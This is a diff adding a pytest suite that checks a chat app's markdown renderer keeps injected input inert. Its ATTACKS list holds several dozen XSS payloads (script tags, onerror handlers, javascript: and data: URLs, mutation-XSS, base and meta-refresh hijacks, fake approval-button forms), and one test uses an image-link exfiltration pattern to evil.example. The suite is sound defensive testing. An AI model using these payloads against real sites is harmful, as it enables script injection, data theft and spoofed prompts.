@@ -1,0 +1,132 @@
+"""Nothing that a workflow or a person writes runs, loads, or pretends to be part of the page."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from chat_app.page.markdown import ATTRIBUTES, TAGS, render, visible
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt&colon;alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "![x](javascript:alert(1))",
+    '![x](https://e.example/a.png "onerror=alert(1)")',
+    '[x](https://e.example/" onmouseover="alert(1))',
+    "<javascript:alert(1)>",
+    "<https://e.example/\"onclick='alert(1)'>",
+    "<style>@import 'https://e.example'</style>",
+    "<iframe src=https://e.example></iframe>",
+    "<form action=https://e.example><button>Approve</button></form>",
+    "<prompt-card><h2>Approve?</h2><button name=value value=yes>Approve</button></prompt-card>",
+    "<div class=question id=dock data-first=1>fake</div>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<!--<img src='--><img src=x onerror=alert(1)//'>",
+    '```"><script>alert(1)</script>\nx\n```',
+    "`<script>alert(1)</script>`",
+    '|a|\n|-|\n|<img src=x onerror="alert(1)">|',
+    "[a]: javascript:alert(1)\n\n[a]",
+    "\x00<script>alert(1)</script>",
+    "</div></article><script>alert(1)</script>",
+    "<base href=https://e.example>",
+    "<meta http-equiv=refresh content='0;url=https://e.example'>",
+]
+
+TAG = re.compile(r"<(/?)([a-zA-Z][\w-]*)([^>]*)>")
+ATTRIBUTE = re.compile(r"([\w-]+)=\"([^\"]*)\"")
+OURS = {
+    "pre": {"tabindex"},
+    "div": {"tabindex", "role", "aria-label"},
+    "a": {"rel"},
+}
+
+
+def assert_inert(html: str) -> None:
+    for _, tag, rest in TAG.findall(html):
+        assert tag in TAGS, tag
+        for name, value in ATTRIBUTE.findall(rest):
+            assert name in ATTRIBUTES.get(tag, set()) | OURS.get(tag, set()), (tag, name)
+            if name == "href":
+                assert value.lower().startswith(("http://", "https://", "mailto:")), value
+        assert not ATTRIBUTE.sub("", rest).strip(" /"), rest
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_is_text(attack: str) -> None:
+    assert_inert(render(attack))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_is_text_at_every_point_of_its_arrival(attack: str) -> None:
+    for end in range(len(attack)):
+        assert_inert(render(attack[:end]))
+        assert_inert(render(f"| a |\n|-|\n| {attack[:end]}"))
+
+
+@given(st.text(alphabet=st.sampled_from("<>\"'()[]!`|-:/\n &#;=ajvscript\x00\u202e"), max_size=60))
+def test_no_text_makes_anything_else_than_the_allowed_tags(text: str) -> None:
+    assert_inert(render(text))
+
+
+def test_an_image_is_a_link_and_loads_nothing() -> None:
+    html = render("![secret](https://evil.example/?q=secret)")
+    assert "<img" not in html
+    assert 'href="https://evil.example/?q=secret"' in html
+    assert 'rel="noopener nofollow"' in html
+
+
+@pytest.mark.parametrize("url", ["/admin/", "//e.example/x", "ftp://e.example", "#dock", "x"])
+def test_a_link_to_anything_but_the_web_or_mail_is_no_link(url: str) -> None:
+    assert "<a" not in render(f"[x]({url})")
+
+
+def test_what_markdown_is_for_works() -> None:
+    html = render(
+        "# One\n\n**b** ~~s~~ `c`\n\n|a|b|\n|:-|-:|\n|1|2|\n\n```py\nx < 1\n```\n3. three"
+    )
+    for part in (
+        "<h2>One</h2>",
+        "<strong>b</strong>",
+        "<s>s</s>",
+        '<td align="right">2</td>',
+        '<pre tabindex="0"><code>x &lt; 1\n</code></pre>',
+        '<ol start="3">',
+    ):
+        assert part in html
+
+
+def test_headings_stay_below_those_of_the_page() -> None:
+    assert "<h1" not in render("# a\n\nb\n=\n")
+
+
+@pytest.mark.parametrize(
+    ("character", "code"),
+    [
+        ("\u202e", "202E"),
+        ("\u2066", "2066"),
+        ("\u200b", "200B"),
+        ("\ufeff", "FEFF"),
+        ("\x1b", "001B"),
+    ],
+)
+def test_what_hides_or_reorders_text_is_shown_by_its_code(character: str, code: str) -> None:
+    html = visible(f"pay 100{character}001")
+    assert character not in html
+    assert f"U+{code}" in html
+
+
+def test_visible_text_is_escaped_and_keeps_its_lines() -> None:
+    assert visible("<b>\n'\"&") == "&lt;b&gt;\n&#x27;&quot;&amp;"
+
+
+def test_a_joined_emoji_is_no_trick() -> None:
+    assert visible("👩\u200d💻") == "👩\u200d💻"
